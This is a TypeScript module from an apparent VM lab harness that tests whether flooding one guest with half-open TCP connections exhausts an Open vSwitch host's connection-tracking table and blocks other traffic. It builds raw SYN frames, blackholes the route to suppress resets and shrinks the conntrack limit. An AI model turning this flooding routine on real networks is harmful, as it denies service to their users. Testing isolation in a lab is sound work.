import type { Call } from '../src/attack.ts';
import { ETHERTYPE, ethernetFrame, ipv4Packet, PROTOCOL } from '../src/frames.ts';
import type { Lab } from '../src/lab.ts';
import { tcpSegment } from '../src/odd-frames.ts';
import { runInHostOk } from '../src/spawn.ts';
import { httpStatus, whileFlooding } from '../src/tools.ts';
import { addressOf, type VmSpec } from '../src/vm/spec.ts';
import { guestExec, guestOk, hostOf } from '../src/vm/vm.ts';
import { waitFor } from '../src/wait.ts';

/** Ports to begin connections from, again and again: conntrack keeps what is half open for 30 s. */
const FLOOD = { ports: 1_000, seconds: 180 };
/** What has not filled the table after so many rounds never does. */
const ROUNDS = 5;
const FILL_MS = 90_000;
/** On a busy machine a call may fail by itself. */
const CALLS = 6;
const ENOUGH = 2;
/** Open vSwitch's own bound of connections. */
const ALL_ROOM = 3_000_000;

interface Begun extends Record<'attacker' | 'victim', VmSpec> {
  /** Of the victim. */
  readonly port: number;
}

interface Flood extends Begun {
  /** The VM on whose host the table of connections is to be filled, and how many that has room for meanwhile. */
  readonly at: VmSpec;
  readonly room: number;
  /** An honest call of HTTP. */
  readonly honest: Call & { readonly address: string };
  /** Has both calls allowed; whatever shares the table out knows by then how large it is. */
  readonly allow: () => Promise<void> | undefined;
}

/** Begins connections that it never goes on with until a host can remember no others, and says whether others still call. */
export async function floodTable(lab: Lab, { attacker, victim, port, at, room, honest, allow }: Flood) {
  const table = connectionTable(lab, await hostOf(lab, at.name));
  const call = () => httpStatus(lab, honest.from, honest.address, honest.port);
  try {
    await table.bound(room);
    await allow();
    const control = await waitFor('an honest call is answered', call, { timeoutMs: 60_000 }).catch(() => undefined);
    // What it knew from before, and forgets meanwhile, would make room again and again.
    await table.empty();
    const answered = await whileHalfOpening(lab, { attacker, victim, port }, async (rounds) => {
      const isOver = async () => (await table.count()) >= room || (await rounds()) >= ROUNDS;
      await waitFor('the table is full, or does not become so', isOver, { timeoutMs: FILL_MS, everyMs: 200 });
      let answered = 0;
      for (let n = 0; n < CALLS && answered < ENOUGH; n++) if ((await call()) !== undefined) answered++;
      return answered;
    });
    const evidence = `${honest.to} answered ${answered} of at most ${CALLS} calls of ${honest.from} while ${attacker.name} flooded ${victim.name}; the host of ${at.name} held ${await table.count()} of at most ${room} connections`;
    return { succeeded: answered < ENOUGH, control: control !== undefined, evidence };
  } finally {
    await table.bound(ALL_ROOM);
  }
}

/** Has one guest begin connections with another and go on with none while `work` runs, which may ask how often it has begun all. */
async function whileHalfOpening<T>(
  lab: Lab,
  { attacker, victim, port }: Begun,
  work: (rounds: () => Promise<number>) => Promise<T>,
): Promise<T> {
  // Or its own kernel would end what the victim answers: it knows of no such connection. Raw frames ask no route.
  const route = ['blackhole', addressOf(victim.ipv4)];
  await guestOk(lab, attacker.name, ['ip', 'route', 'replace', ...route]);
  try {
    return await whileFlooding(lab, attacker.name, { ...FLOOD, frame: firstSegment(attacker, victim, port) }, work);
  } finally {
    await guestExec(lab, attacker.name, ['ip', 'route', 'del', ...route]);
  }
}

/** Begins a thousand connections and goes on with none. */
export function beginMany(lab: Lab, begun: Begun): Promise<void> {
  return whileHalfOpening(lab, begun, async (rounds) => {
    const isBegun = async () => (await rounds()) > 0;
    await waitFor('connections are begun', isBegun, { timeoutMs: FILL_MS, everyMs: 200 });
  });
}

/** From its own address, or it would end at its port. */
function firstSegment(from: VmSpec, to: VmSpec, targetPort: number): Buffer {
  const ends = { source: addressOf(from.ipv4), target: addressOf(to.ipv4) };
  const syn = tcpSegment({ ...ends, sourcePort: 20_000, targetPort, flags: ['syn'], data: '' });
  return ethernetFrame({ from: from.mac, to: to.mac }, ETHERTYPE.ipv4, ipv4Packet(ends, PROTOCOL.tcp, syn));
}

/** A host's table of connections, which a guest of a small lab cannot fill as it is. */
function connectionTable(lab: Lab, host: string) {
  const dpctl = (command: string, ...argv: string[]) =>
    runInHostOk(lab, host, ['ovs-appctl', `dpctl/${command}`, ...argv]);
  return {
    count: async () => Number.parseInt(await dpctl('ct-get-nconns'), 10),
    bound: (most: number) => dpctl('ct-set-maxconns', String(most)),
    empty: () => dpctl('flush-conntrack'),
  };
}
